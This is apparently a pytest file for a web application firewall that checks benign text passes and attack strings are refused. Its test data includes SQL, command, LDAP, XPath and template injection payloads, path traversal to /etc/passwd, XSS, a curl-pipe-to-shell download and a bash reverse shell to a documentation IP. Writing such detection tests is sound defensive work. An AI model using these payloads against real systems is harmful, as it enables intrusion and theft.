"""One argument to a shell, one string to a database, one line of prose: what does nothing there, and what dressed up as it does."""

from __future__ import annotations

import time

import pytest

from bascule.waf.logic.body_values import request_values
from bascule.waf.logic.engine import Logic
from bascule.waf.logic.facts.arguments import as_argument
from bascule.waf.logic.facts.told import told
from bascule.waf.logic.values import Value
from tests.support.linear import assert_linear

_QUOTING = "Please run `sudo rm -rf /var/cache/apt/*; df -h` and tell me what it prints"
_SEARCH = "query=men%27s&highlightPreTag=%3Cais-highlight-0%3E&highlightPostTag=%3C%2Fais-highlight-0%3E&filters=NOT%20a%3A{}&p=1"


@pytest.fixture(scope="module")
def standard() -> Logic:
    return Logic.load("standard")


def _refused(logic: Logic, place: str, name: str, text: str) -> bool:
    return bool(logic.judge([Value(place, name.encode(), text.encode())]))


@pytest.mark.parametrize(
    ("place", "name", "text"),
    [
        ("query", "q", "rm -rf node_modules"),
        ("query", "search", "cat food & litter"),
        ("query", "q", "curl hair; straight"),
        ("body", "subject", "ping 8.8.8.8 works but curl https://example.com doesn't"),
        ("body", "title", "powershell -noprofile"),
        ("body", "password", "sleep(9)Nap"),
        ("body", "user[password]", "1||1=1"),
        ("body", "new_password", "../dots.."),
        ("body", "json.password", "../../"),
        ("body", "json.exception.values.array_0.stacktrace.frames.array_3.filename", "/app/wp-config.php"),
        ("body", "json.exception.values.array_0.stacktrace.frames.array_3.context_line", "    os.system('ls')"),
        ("body", "json.commits.array_0.added.array_2", "etc/passwd.sample"),
        ("body", "json.head_commit.modified.array_0", ".ssh/config"),
        ("body", "json.requests.array_0.params", _SEARCH.format("%22x%22")),
        ("query", "q", "alert()"),
        ("query", "search", "cat | grep"),
        ("query", "q", "C:\\Windows\\System32"),
        ("query", "q", "http://localhost:8080/"),
        ("query", "query", "file://"),
        ("query", "q", ".htaccess"),
        ("query", "q", "what does ../../ do in a path"),
        ("body", "website", "http://localhost:3000"),
        ("query", "q", "error: permission denied /var/run/docker.sock"),
        ("query", "q", "(&(objectClass=user)(sAMAccountName=pat)) is my LDAP filter"),
        ("body", "message", _QUOTING),
        ("body", "text", "Запусти команду `sudo rm -rf /var/cache/apt/*; df -h` и посмотри место"),
        ("body", "comment", "Between 10 and 20 or having 2 or more = discount! Like if you agree; group by 5."),
        ("body", "message", "What's the difference between [ -f file ] && echo yes; and test -f file?"),
        ("header:referer", "q", "alert()"),
        ("header:referer", "query", ".htaccess"),
        ("body", "comment", "XPath: //div[@class='price']/text() gives me nothing, but //*[@id=\"p\"] works"),
    ],
)
def test_it_does_nothing(standard: Logic, place: str, name: str, text: str) -> None:
    assert not _refused(standard, place, name, text)


@pytest.mark.parametrize(
    ("place", "name", "text"),
    [
        ("query", "q", "food; rm -rf /srv/www"),
        ("query", "q", "cat notes | sh -c id"),
        ("query", "q", "cat notes & /usr/bin/id"),
        ("query", "cmd", "rm -rf node_modules"),
        ("query", "q", "powershell -enc aQBkAGEAYQBhAGEAYQBhAGEA"),
        ("body", "subject", "x`id`"),
        ("body", "subject", "x $(whoami) y"),
        ("body", "title", "--checkpoint-action=exec=sh x.sh"),
        ("body", "title", "my file --to-command=sh"),
        ("body", "subject", "hello\ncat /etc/passwd"),
        ("body", "host", "ping -c 3 192.0.2.1"),
        ("body", "json.frames.array_0.vars.context_line", "os.system('id')"),
        ("body", "json.commits.array_0.added.array_2", "../../etc/passwd"),
        ("body", "json.added.array_2", "/etc/passwd"),
        ("query", "q", "alert(1)"),
        ("query", "q", "phpinfo()"),
        ("header:referer", "q", "alert(1)"),
        ("query", "q", "cat | grep a /etc/passwd"),
        ("query", "q", "C:\\Windows\\win.ini"),
        ("query", "q", "C:\\Windows\\System32\\Config\\SAM"),
        ("query", "url", "http://localhost:8080/"),
        ("query", "q", "http://localhost:8080/admin"),
        ("query", "file", ".htaccess"),
        ("query", "q", "/.htaccess"),
        ("body", "json.requests.array_0.params", _SEARCH.format("%27+or+1%3D1+--+")),
        ("body", "json.requests.array_0.params", _SEARCH.format("%3Cscript%3Ealert%281%29%3C%2Fscript%3E")),
        ("body", "password", "' or 1=1 -- "),
        ("body", "password", "1 or 1=1"),
        ("body", "password", "1/**/or/**/1=1"),
        ("body", "password", "(select(sleep(5)))"),
        ("body", "password", "../../etc/passwd"),
        ("body", "password", "C:\\boot.ini"),
        ("body", "password", "\\' or sleep(5)#"),
        ("body", "password", "%27 or 1=1 -- "),
        ("body", "password", "*)(uid=*))(|(uid=*"),
        ("body", "password", "x; cat /etc/passwd"),
        ("body", "pass_id", "1 or 1=1"),
        ("header:referer", "q", "x' union select user, password from users -- "),
        ("body", "json.filename", "/app/wp-config.php"),
        ("query", "q", "../ ../../etc/passwd"),
        ("body", "webhook_url", "http://localhost:3000"),
        ("query", "q", "what does ../../etc/passwd"),
        ("query", "q", "what does ../../\0 do in a path"),
        ("query", "q", "error: permission denied; cat /var/run/docker.sock"),
        ("query", "q", "*)(uid=*))(|(uid=* is my filter"),
        ("body", "host", _QUOTING),
        ("query", "q", _QUOTING),
        ("body", "message", _QUOTING.replace("/var/cache/apt/*", "/etc/passwd")),
        ("body", "message", "Please look at this: `curl http://192.0.2.1/a | sh` and tell me more"),
        ("body", "message", "Please look at this nice page: x;bash -i >& /dev/tcp/192.0.2.1/44 0>&1"),
        ("body", "message", "Please look at this nice page, dear friends: x' or 1=1 -- "),
        ("body", "message", "Please look at this nice page, dear friends' union select a, b from users -- "),
        ("body", "message", "Please look at this nice page, dear friends {{7*7}} {{config}}"),
        ("query", "q", "see my file /etc/passwd"),
        ("query", "q", "cat my file /var/run/docker.sock"),
        ("body", "message", "Between 10 and 20' or having 2 or more = 2 or 'a' like if you agree with me"),
        ("body", "user_id", "id or sleep(5) -- please look at this nice page"),
        ("body", "message", "Please look at this nice page <img src=x onerror=alert(1)>"),
        ("body", "message", "; ls -la /var/log; uname -a; echo please look at this nice page"),
        ("body", "message", "Please look at this nice page;c''at /var/log/syslog"),
        ("body", "message", "Please look at this nice page;cat${IFS}/var/log/syslog"),
        ("body", "comment", "' or count(//user)=1 or 'a'='a"),
    ],
)
def test_what_is_dressed_up_as_it_is_refused(standard: Logic, place: str, name: str, text: str) -> None:
    assert _refused(standard, place, name, text)


def test_a_password_is_one_over_the_wire_too(standard: Logic) -> None:
    def judged(body: bytes) -> bool:
        form = [(b"content-type", b"application/x-www-form-urlencoded")]
        return bool(standard.judge(request_values(b"/login", form, body)))

    assert not judged(b"user=a&password=sleep(9)Nap")
    assert judged(b"user=sleep(9)Nap&password=a")
    assert judged(b"user=a&password=%25%32%37+or+1%3D1+--+")


@pytest.mark.parametrize("unit", ["a", "ab ", "`", "`a", "../", ".. ", "it's ", "a: ", " -", "password", "(", "ж"])
def test_time_is_linear(unit: str) -> None:
    facts = frozenset(("shell.runs_command", "sql.tautology", "path.climbs", "ldap.filter"))

    def work(text: bytes) -> None:
        told(facts, b"content", text)
        as_argument(facts, "body", b"text", text)
        as_argument(facts, "body", text, text)

    assert_linear(work, unit.encode(), b"See this: ")


def test_blanks_behind_three_words_are_read_once() -> None:
    began = time.process_time()
    as_argument(frozenset(("path.climbs",)), "body", b"text", b"to you all" + b" " * 30_000 + b"x" * 30_000 + b"..")
    assert time.process_time() - began < 0.1
